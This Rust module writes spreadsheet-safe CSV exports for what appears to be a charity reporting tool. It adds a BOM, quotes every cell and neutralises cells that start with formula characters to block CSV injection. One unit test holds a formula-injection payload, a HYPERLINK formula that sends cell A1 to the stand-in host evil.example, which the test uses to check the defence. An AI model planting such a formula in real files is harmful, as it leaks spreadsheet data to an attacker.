//! CSV for spreadsheets, written in one place so every download and `report late --format csv`
//! open the same way in Excel and WPS (issue 16):
//!
//! - A UTF-8 byte-order mark first: without it Excel reads the file in the system's legacy
//!   code page and shows Chinese as mojibake.
//! - A cell whose text a spreadsheet would run as a formula — starting with `=`, `+`, `-`, `@`,
//!   a tab or a carriage return — gets a single quote in front, as the OWASP advice on CSV
//!   injection says (<https://owasp.org/www-community/attacks/CSV_Injection>). Charities write
//!   titles, purposes, payees and notices; a project titled `=HYPERLINK(...)` must reach the
//!   reader as text, not as a link that runs.
//! - Numbers stay numbers: a cell that is exactly a decimal number (`-1234.50`, a deficit or a
//!   negative balance) cannot hold a formula, so it is left alone and a spreadsheet still sums
//!   it. `-1+2` or `-SUM(A1)` are not numbers and are neutralised.
//!
//! Quoting is RFC 4180 (the `csv` crate), every cell quoted (see [`write`]). JSON downloads carry the text unchanged: scripts read
//! them, not spreadsheets.

use std::borrow::Cow;

/// The UTF-8 byte-order mark.
pub const BOM: &str = "\u{feff}";

/// Characters a spreadsheet takes as the start of a formula (or, tab and CR, that let one
/// through after trimming).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is a plain decimal number: an optional minus, digits, optionally a point and
/// digits. Spreadsheets read it as a number, never as a formula.
fn is_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// `text` as a cell a spreadsheet shows as text: with a leading `'` when it would start a
/// formula, unchanged otherwise (numbers included).
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV file: the BOM, the header row, then `rows`, every cell through [`cell`].
pub fn write<R, C>(header: &[&str], rows: impl IntoIterator<Item = R>) -> Vec<u8>
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    // Writing to a Vec cannot fail; a row of the wrong width is our bug, and would show up as
    // a short file in the tests.
    let mut w = Writer::new(Vec::new(), header).unwrap_or_else(|_| Writer::empty());
    for row in rows {
        let _ = w.row(row);
    }
    w.finish().unwrap_or_default()
}

/// Every cell quoted: a spreadsheet set to split on `;` (the list separator of many locales)
/// would otherwise start a new cell, and a formula, inside `a;=HYPERLINK(..)`.
fn builder() -> csv::WriterBuilder {
    let mut b = csv::WriterBuilder::new();
    b.quote_style(csv::QuoteStyle::Always);
    b
}

/// Appends one row's bytes to `out`, as [`Writer::row`] writes them: for a download that
/// counts its bytes as it goes (`site::data::Stream`).
pub fn encode_row<C: AsRef<str>>(
    out: &mut Vec<u8>,
    cells: impl IntoIterator<Item = C>,
) -> std::io::Result<()> {
    let mut w = Writer {
        csv: builder().buffer_capacity(1024).from_writer(out),
    };
    w.row(cells)?;
    w.csv.flush()
}

/// A CSV file written row by row into `W` (a download that grows with the log is written as
/// it streams): the same bytes as [`write`].
pub struct Writer<W: std::io::Write> {
    csv: csv::Writer<W>,
}

impl Writer<Vec<u8>> {
    fn empty() -> Self {
        Writer {
            csv: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl<W: std::io::Write> Writer<W> {
    /// Starts the file: the BOM and the header row.
    pub fn new(mut out: W, header: &[&str]) -> std::io::Result<Self> {
        out.write_all(BOM.as_bytes())?;
        let mut w = Writer {
            csv: builder().from_writer(out),
        };
        w.row(header)?;
        Ok(w)
    }

    pub fn row<C: AsRef<str>>(
        &mut self,
        cells: impl IntoIterator<Item = C>,
    ) -> std::io::Result<()> {
        self.csv
            .write_record(cells.into_iter().map(|c| cell(c.as_ref()).into_owned()))
            .map_err(std::io::Error::other)
    }

    /// Flushes the rows and hands the sink back.
    pub fn finish(self) -> std::io::Result<W> {
        self.csv.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).unwrap();
        let text = text.strip_prefix(BOM).expect("the file starts with a BOM");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    /// A spreadsheet that splits on `;` must not find a cell starting `=` inside one of ours:
    /// every cell is quoted, so the `;` stays inside it.
    #[test]
    fn a_semicolon_never_opens_a_cell_of_its_own() {
        let bytes = write(&["title"], vec![vec!["学校;=HYPERLINK(1)"], vec!["42"]]);
        let text = String::from_utf8(bytes).unwrap();
        let body = text.strip_prefix(BOM).unwrap();
        assert_eq!(body, "\"title\"\n\"学校;=HYPERLINK(1)\"\n\"42\"\n");
        // Split naively on `;` outside quotes, as such a spreadsheet does: no part starts `=`.
        let mut in_quotes = false;
        let mut part_starts = vec![0];
        for (i, c) in body.char_indices() {
            match c {
                '"' => in_quotes = !in_quotes,
                ';' | '\n' if !in_quotes => part_starts.push(i + 1),
                _ => {}
            }
        }
        assert!(part_starts.iter().all(|&i| !body[i..].starts_with('=')));
    }

    #[test]
    fn formula_cells_get_a_quote_and_numbers_stay_numbers() {
        let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"点此领取")"#;
        let rows = vec![
            vec![title, "-1234.50", "=1+1"],
            vec!["+8613800000000", "-1+2", "@SUM(A1)"],
            vec!["\tcmd", "\r=1", "-"],
            vec!["-12", "0.5", "普通文字"],
            vec!["a=b", "", "- 5"],
        ];
        let got = read(&write(&["title", "amount", "x"], rows));
        assert_eq!(got[0], ["title", "amount", "x"]);
        assert_eq!(got[1][0], format!("'{title}"));
        assert_eq!(got[1][1], "-1234.50", "a negative amount stays a number");
        assert_eq!(got[1][2], "'=1+1");
        assert_eq!(got[2], ["'+8613800000000", "'-1+2", "'@SUM(A1)"]);
        assert_eq!(got[3], ["'\tcmd", "'\r=1", "'-"]);
        assert_eq!(got[4], ["-12", "0.5", "普通文字"]);
        assert_eq!(got[5], ["a=b", "", "'- 5"]);
    }

    #[test]
    fn what_counts_as_a_number() {
        for n in ["0", "-0", "12", "-12.50", "1234567890123.45"] {
            assert!(is_number(n), "{n}");
        }
        for x in [
            "", "-", "-.5", "1.", "1e5", "-1e5", "--1", "1.2.3", "-1,000", " 1",
        ] {
            assert!(!is_number(x), "{x}");
        }
    }
}
